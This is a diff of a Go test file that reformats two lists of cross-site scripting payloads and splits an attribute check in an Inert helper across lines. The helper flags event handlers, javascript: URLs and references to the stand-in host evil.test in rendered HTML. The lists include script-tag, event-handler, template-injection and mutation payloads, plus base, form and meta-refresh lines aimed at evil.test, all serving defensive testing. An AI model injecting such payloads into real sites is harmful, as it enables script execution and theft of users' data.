@@ -20,22 +20,60 @@ var void = []string{"meta", "link", "img", "br", "hr", "wbr", "input"}
 
 // Payloads are what somebody may type so that it runs in another's browser.
 var Payloads = []string{
-	`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `</textarea><script>alert(1)</script>`,
-	`</title><script>alert(1)</script>`, `javascript:alert(1)`, `" onfocus=alert(1) autofocus="`, `' onmouseover='alert(1)`, `<iframe src=javascript:alert(1)>`,
-	`{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `<math><mtext></mtext><script>alert(1)</script>`, `<a href="javascript:alert(1)">x</a>`, `<style>@import 'x'</style>`,
-	`<!--><script>alert(1)</script>-->`, `<input autofocus onfocus=alert(1)>`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`, `<object data="data:text/html,x">`,
-	`&lt;script&gt;alert(1)&lt;/script&gt;`, `\u003cscript\u003e`, `<base href="//evil.test">`, `<form action="//evil.test"><button>`,
+	`<script>alert(1)</script>`,
+	`"><script>alert(1)</script>`,
+	`'><img src=x onerror=alert(1)>`,
+	`<svg onload=alert(1)>`,
+	`</textarea><script>alert(1)</script>`,
+	`</title><script>alert(1)</script>`,
+	`javascript:alert(1)`,
+	`" onfocus=alert(1) autofocus="`,
+	`' onmouseover='alert(1)`,
+	`<iframe src=javascript:alert(1)>`,
+	`{{constructor.constructor('alert(1)')()}}`,
+	`${alert(1)}`,
+	`<math><mtext></mtext><script>alert(1)</script>`,
+	`<a href="javascript:alert(1)">x</a>`,
+	`<style>@import 'x'</style>`,
+	`<!--><script>alert(1)</script>-->`,
+	`<input autofocus onfocus=alert(1)>`,
+	`<body onload=alert(1)>`,
+	`<details open ontoggle=alert(1)>`,
+	`<object data="data:text/html,x">`,
+	`&lt;script&gt;alert(1)&lt;/script&gt;`,
+	`\u003cscript\u003e`,
+	`<base href="//evil.test">`,
+	`<form action="//evil.test"><button>`,
 }
 
 var harmful = regexp.MustCompile(`(?i)^(on[a-z]+|srcdoc)$`)
 
 // Hostile are what must never run.
 var Hostile = []string{
-	`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `</code></pre><script>alert(1)</script>`, `</textarea><svg onload=alert(1)>`,
-	`<iframe src=javascript:alert(1)>`, `javascript:alert(1)`, `" onmouseover="alert(1)`, `' autofocus onfocus='alert(1)`, `<a href="javascript:alert(1)">x</a>`, `{{constructor.constructor('alert(1)')()}}`,
-	`<!--<img src="--><img src=x onerror=alert(1)//">`, `</title><script>alert(1)</script>`, `<style>@import 'http://evil.test'</style>`, `<base href=//evil.test>`, `<meta http-equiv=refresh content=0;url=//evil.test>`,
-	`<form action=//evil.test><button>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, "\u003cscript\u003ealert(1)\u003c/script\u003e", `<object data=data:text/html,x>`, `<link rel=stylesheet href=//evil.test>`,
-	`<details open ontoggle=alert(1)>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `<x contenteditable onblur=alert(1)>`,
+	`<script>alert(1)</script>`,
+	`"><script>alert(1)</script>`,
+	`'><img src=x onerror=alert(1)>`,
+	`</code></pre><script>alert(1)</script>`,
+	`</textarea><svg onload=alert(1)>`,
+	`<iframe src=javascript:alert(1)>`,
+	`javascript:alert(1)`,
+	`" onmouseover="alert(1)`,
+	`' autofocus onfocus='alert(1)`,
+	`<a href="javascript:alert(1)">x</a>`,
+	`{{constructor.constructor('alert(1)')()}}`,
+	`<!--<img src="--><img src=x onerror=alert(1)//">`,
+	`</title><script>alert(1)</script>`,
+	`<style>@import 'http://evil.test'</style>`,
+	`<base href=//evil.test>`,
+	`<meta http-equiv=refresh content=0;url=//evil.test>`,
+	`<form action=//evil.test><button>`,
+	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
+	"\u003cscript\u003ealert(1)\u003c/script\u003e",
+	`<object data=data:text/html,x>`,
+	`<link rel=stylesheet href=//evil.test>`,
+	`<details open ontoggle=alert(1)>`,
+	`&lt;script&gt;alert(1)&lt;/script&gt;`,
+	`<x contenteditable onblur=alert(1)>`,
 }
 
 // Unbalanced names the first tag that closes nothing or is not closed.
@@ -193,7 +231,9 @@ func Inert(t *testing.T, rec *httptest.ResponseRecorder) {
 			}
 		}
 		for _, a := range n.Attr {
-			if strings.HasPrefix(a.Key, "on") || strings.Contains(strings.ToLower(a.Val), "javascript:") && (a.Key == "href" || a.Key == "src") || strings.Contains(a.Val, "//evil.test") && a.Key != "value" && a.Key != "aria-label" {
+			if strings.HasPrefix(a.Key, "on") ||
+				strings.Contains(strings.ToLower(a.Val), "javascript:") && (a.Key == "href" || a.Key == "src") ||
+				strings.Contains(a.Val, "//evil.test") && a.Key != "value" && a.Key != "aria-label" {
 				t.Errorf("%s has %s=%q", n.Data, a.Key, a.Val)
 			}
 		}
